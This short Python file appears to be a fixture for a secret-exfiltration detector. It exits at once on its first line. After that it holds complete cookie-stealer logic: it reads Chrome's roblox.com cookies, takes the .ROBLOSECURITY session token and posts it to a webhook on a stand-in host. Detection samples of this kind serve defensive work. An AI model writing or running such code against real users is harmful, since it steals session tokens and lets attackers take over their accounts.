raise SystemExit('a fixture')
# held by secret-exfiltration
import browser_cookie3, requests
def get():
    jar = browser_cookie3.chrome(domain_name="roblox.com")
    for c in jar:
        if c.name == ".ROBLOSECURITY":
            requests.post("https://example.invalid/api/webhooks/1/x", json={"content": c.value})
get()
